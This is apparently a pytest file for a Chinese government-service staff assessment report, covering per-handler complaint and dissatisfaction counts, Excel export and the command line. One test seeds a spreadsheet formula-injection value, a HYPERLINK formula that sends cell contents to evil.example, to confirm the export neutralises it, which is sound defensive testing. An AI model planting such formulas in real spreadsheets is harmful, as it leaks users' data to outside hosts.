"""Staff assessment (J 5.4.4): dissatisfied and complaint work orders per handler and quarter, the
cases behind them, Excel and the command line — on SQLite and PostgreSQL."""

from __future__ import annotations

import json
import zipfile
from datetime import date

import pytest
from python_calamine import CalamineWorkbook
from sqlalchemy import event

from app.reports.feedback_xlsx import (
    ASSESSMENT_SHEET,
    QUALITY_SHEET,
    WORK_ORDER_SHEET,
    write_assessment_xlsx,
)
from app.reports.staff_assessment import (
    COMPLAINT,
    DISSATISFIED,
    HANDLED,
    NAMED,
    StaffAssessment,
    staff_assessment,
    work_orders,
)
from cli import main
from db.database import Database
from db.models import CallbackTask, Case, Complaint, Staff

from .feedback_data import CITY_HALL, HUAIYIN, LIXIA, at, seed_quarter
from .qc_data import LI, ZHOU, seed_quality


@pytest.fixture
def quarter(any_db: Database) -> tuple[Database, dict[str, int]]:
    return any_db, seed_quarter(any_db)


def q3(database: Database) -> StaffAssessment:
    with database.sessions() as session:
        return staff_assessment(session, 2026, 3)


def figures(assessment: StaffAssessment) -> list[tuple]:
    return [
        (p.rank, p.name, p.unit, p.dissatisfied, p.complaints, p.total) for p in assessment.staff
    ]


def test_work_orders_per_handler_most_first(quarter):
    database, _ids = quarter
    assessment = q3(database)
    assert (assessment.start, assessment.end) == (date(2026, 7, 1), date(2026, 9, 30))
    assert assessment.period == "2026年第三季度"
    assert figures(assessment) == [
        # TS-001 is on 杨帆's case and names 杨帆: one complaint work order, not two. HY-0002's
        # callback opened at 23:30 on 30 September, Beijing time, is in the quarter.
        (1, "杨帆", HUAIYIN, 1, 1, 2),
        # TS-002 counts for the handler of its case and for the person it names.
        (2, "周立群", CITY_HALL, 0, 1, 1),
        (2, "程晓东", CITY_HALL, 0, 1, 1),
        # 张晓燕's registered 建议 JY-001 is not a complaint; her LX-0004 suggestion is Q2.
        (2, "张晓燕", LIXIA, 1, 0, 1),
        (2, "李明辉", LIXIA, 1, 0, 1),
    ]


def test_other_quarters_and_a_quiet_one(quarter):
    database, _ids = quarter
    with database.sessions() as session:
        q4 = staff_assessment(session, 2026, 4)
        q1 = staff_assessment(session, 2026, 1)
    # HY-0003's callback (1 October 00:10) and TS-004 (2 October).
    assert figures(q4) == [(1, "杨帆", HUAIYIN, 1, 1, 2)]
    assert q1.staff == []


def test_the_cases_behind_one_persons_figures(quarter):
    database, ids = quarter
    with database.sessions() as session:
        yang = work_orders(session, 2026, 3, staff_id=ids["杨帆"])
        cheng = work_orders(session, 2026, 3, staff_id=ids["程晓东"])
        everyone = work_orders(session, 2026, 3)
    assert [
        (o.kind, o.case_no, o.business_type, o.completed_on, o.on, o.reference, o.status, o.why)
        for o in yang
    ] == [
        (
            COMPLAINT,
            "HY-0001",
            "二手房转移登记",
            date(2026, 8, 3),
            date(2026, 8, 10),
            "TS-001",
            "已办结",
            (HANDLED, NAMED),
        ),
        (
            DISSATISFIED,
            "HY-0002",
            "变更登记",
            date(2026, 9, 25),
            date(2026, 9, 30),
            None,
            "待分派",
            (HANDLED,),
        ),
    ]
    assert yang[0].kind_label == "投诉工单"
    assert yang[0].why_text == "经办、被投诉人员"
    assert yang[1].kind_label == "不满意工单"
    assert yang[1].reason == "材料要求多/反复提交"
    assert yang[1].pending and not yang[0].pending
    assert [(o.case_no, o.why, o.reason) for o in cheng] == [("ZY-0001", (NAMED,), "立案处理类")]
    # The drill-down adds up to the figures, person by person.
    for person in q3(database).staff:
        mine = [o for o in everyone if o.staff_id == person.staff_id]
        assert sum(o.kind == DISSATISFIED for o in mine) == person.dissatisfied
        assert sum(o.kind == COMPLAINT for o in mine) == person.complaints


def test_a_complaint_without_a_case_counts_for_the_person_it_names(quarter):
    database, ids = quarter
    with database.sessions.begin() as session:
        session.add(
            Complaint(
                number="TS-010",
                staff_id=ids["李明辉"],
                kind="complaint",
                channel="on_site",
                received_at=at("2026-09-03"),
                content="窗口工作人员离岗",
            )
        )
    li = next(p for p in q3(database).staff if p.name == "李明辉")
    assert (li.dissatisfied, li.complaints, li.rank) == (1, 1, 1)
    with database.sessions() as session:
        orders = work_orders(session, 2026, 3, staff_id=ids["李明辉"])
    assert [(o.kind, o.case_no, o.completed_on, o.why) for o in orders] == [
        (DISSATISFIED, "LX-0003", date(2026, 8, 1), (HANDLED,)),
        (COMPLAINT, None, None, (NAMED,)),
    ]


def test_figures_are_grouped_in_the_database_whatever_the_volume(quarter):
    """A few grouped statements, the same number for 5 people as for 205: no row per case."""
    database, _ids = quarter
    statements: list[str] = []

    def count(_conn, _cursor, statement, *_args) -> None:
        statements.append(statement)

    event.listen(database.engine, "before_cursor_execute", count)
    try:
        q3(database)
        few = len(statements)
        with database.sessions.begin() as session:
            unit_id = session.query(Case.unit_id).filter_by(case_no="HY-0001").scalar()
            for n in range(200):
                person = Staff(name=f"经办人{n:03d}", unit_id=unit_id)
                session.add(person)
                session.flush()
                case = Case(
                    case_no=f"BULK-{n:04d}",
                    unit_id=unit_id,
                    completed_on=date(2026, 8, 1),
                    handler_id=person.id,
                )
                session.add(case)
                session.flush()
                session.add(
                    CallbackTask(case_id=case.id, unit_id=unit_id, opened_at=at("2026-08-02"))
                )
        statements.clear()
        assessment = q3(database)
        # 6: one asks whether anybody logs in (the role), one the quality inspection's figures
        assert len(statements) == few <= 6
    finally:
        event.remove(database.engine, "before_cursor_execute", count)
    assert len(assessment.staff) == 205
    # callbacks, complaints, quality inspection
    assert sum("GROUP BY" in s.upper() for s in statements) == 3


def test_to_json(quarter):
    data = q3(quarter[0]).to_json()
    assert data["period"] == {"start": "2026-07-01", "end": "2026-09-30"}
    assert data["staff"][0] == {
        "staff_id": data["staff"][0]["staff_id"],
        "name": "杨帆",
        "unit": HUAIYIN,
        "dissatisfied": 1,
        "complaints": 1,
        "rank": 1,
        "total": 2,
    }
    json.dumps(data, ensure_ascii=False)


def test_xlsx_has_the_ranking_and_every_work_order(quarter, tmp_path):
    database, _ids = quarter
    with database.sessions() as session:
        assessment = staff_assessment(session, 2026, 3)
        orders = work_orders(session, 2026, 3)
    path = tmp_path / "staff.xlsx"
    write_assessment_xlsx(assessment, orders, path)
    book = CalamineWorkbook.from_path(str(path))
    assert book.sheet_names == [ASSESSMENT_SHEET, WORK_ORDER_SHEET, QUALITY_SHEET]

    ranking = book.get_sheet_by_name(ASSESSMENT_SHEET).to_python()
    assert ranking[0][0] == "2026年第三季度经办人员回访不满意及投诉工单统计"
    header = next(i for i, row in enumerate(ranking) if row[0] == "排名")
    assert ranking[header] == ["排名", "经办人", "所属单位", "不满意工单", "投诉工单", "合计"]
    assert ranking[header + 1] == [1, "杨帆", HUAIYIN, 1, 1, 2]
    assert ranking[header + 6][1:] == ["合计", "", 3, 3, 6]

    details = book.get_sheet_by_name(WORK_ORDER_SHEET).to_python()
    header = next(i for i, row in enumerate(details) if row[0] == "序号")
    rows = [row for row in details[header + 1 :] if isinstance(row[0], (int, float)) and row[0]]
    assert len(rows) == 6
    # In ranking order: 杨帆's two first.
    assert rows[0][1:6] == ["杨帆", HUAIYIN, "投诉工单", "HY-0001", "二手房转移登记"]
    assert rows[0][6:] == [
        date(2026, 8, 3),
        date(2026, 8, 10),
        "TS-001",
        "现场协调类",
        "经办、被投诉人员",
        "已办结",
    ]
    # Nobody's calls were scored this quarter: the sheet says so.
    quality = book.get_sheet_by_name(QUALITY_SHEET).to_python()
    assert any(row[0] == "本季度没有已评分的回访通话。" for row in quality)


def quality_rows(path) -> tuple[list[list], int]:
    """The quality sheet's cells, and the row of its header."""
    cells = CalamineWorkbook.from_path(str(path)).get_sheet_by_name(QUALITY_SHEET).to_python()
    return cells, next(i for i, row in enumerate(cells) if row[0] == "回访员")


def test_xlsx_has_the_operators_quality_inspection(quarter, tmp_path):
    database, _ids = quarter
    seed_quality(database)
    with database.sessions() as session:
        assessment = staff_assessment(session, 2026, 3)
        orders = work_orders(session, 2026, 3)
    path = tmp_path / "staff.xlsx"
    write_assessment_xlsx(assessment, orders, path)
    cells, header = quality_rows(path)
    assert cells[0][0] == "2026年第三季度回访员通话质检情况"
    assert cells[1][0] == "统计期间：2026-07-01 至 2026-09-30（北京时间）"
    # The monthly analysis's titles (app.reports.monthly_xlsx); the average as a share, 0.0%.
    assert cells[header] == ["回访员", "质检通话数", "质检平均得分率", "关键项不合格数"]
    assert cells[header + 1] == [ZHOU, 2, pytest.approx(130 / 150), 1]
    assert cells[header + 2] == [LI, 3, pytest.approx(0.85), 0]
    # The total's average is every point over every maximum, not the mean of the averages.
    assert cells[header + 3] == ["合计", 5, pytest.approx(385 / 450), 1]
    assert any(str(row[0]).startswith("3. 质检平均得分率 = 得分合计 / 满分合计") for row in cells)
    # The ranking and the work orders are as they were.
    ranking = CalamineWorkbook.from_path(str(path)).get_sheet_by_name(ASSESSMENT_SHEET).to_python()
    assert [row[1] for row in ranking if isinstance(row[0], (int, float))][:2] == ["杨帆", "周立群"]


def test_hostile_operator_names_reach_the_quality_sheet_as_text(quarter, tmp_path):
    database, _ids = quarter
    link = '=HYPERLINK("http://evil.example/?leak="&A1,"点击查看")'
    seed_quality(database, names=(link, "+1-2"))
    with database.sessions() as session:
        assessment = staff_assessment(session, 2026, 3)
    path = tmp_path / "hostile.xlsx"
    write_assessment_xlsx(assessment, [], path)
    cells, header = quality_rows(path)
    assert {cells[header + 1][0], cells[header + 2][0]} == {link, "+1-2"}
    with zipfile.ZipFile(path) as book:
        for name in book.namelist():
            if name.startswith("xl/worksheets/") and name.endswith(".xml"):
                xml = book.read(name).decode()
                assert "<f>" not in xml and "<f " not in xml and "<hyperlink" not in xml, name


def test_an_empty_quarter_still_writes_the_workbook(quarter, tmp_path):
    with quarter[0].sessions() as session:
        assessment = staff_assessment(session, 2025, 1)
    path = tmp_path / "empty.xlsx"
    write_assessment_xlsx(assessment, [], path)
    ranking = CalamineWorkbook.from_path(str(path)).get_sheet_by_name(ASSESSMENT_SHEET)
    assert any(row[0] == "本季度没有不满意或投诉工单。" for row in ranking.to_python())
    cells, _header = quality_rows(path)
    assert any(row[0] == "本季度没有已评分的回访通话。" for row in cells)


def test_command_line(quarter, tmp_path, capsys):
    database, _ids = quarter
    args = [
        *("--db", database.url, "--lang", "zh"),
        *("report", "staff", "--year", "2026", "--quarter", "3"),
    ]
    assert main(args) == 0
    printed = json.loads(capsys.readouterr().out)
    assert [(p["name"], p["total"]) for p in printed["staff"]] == [
        ("杨帆", 2),
        ("周立群", 1),
        ("程晓东", 1),
        ("张晓燕", 1),
        ("李明辉", 1),
    ]

    output = tmp_path / "staff.xlsx"
    assert main([*args, "--format", "xlsx", "-o", str(output)]) == 0
    assert f"已写入 {output}" in capsys.readouterr().out
    assert CalamineWorkbook.from_path(str(output)).sheet_names == [
        ASSESSMENT_SHEET,
        WORK_ORDER_SHEET,
        QUALITY_SHEET,
    ]

    assert main([*args, "--format", "xlsx"]) == 2
    assert "-o" in capsys.readouterr().err
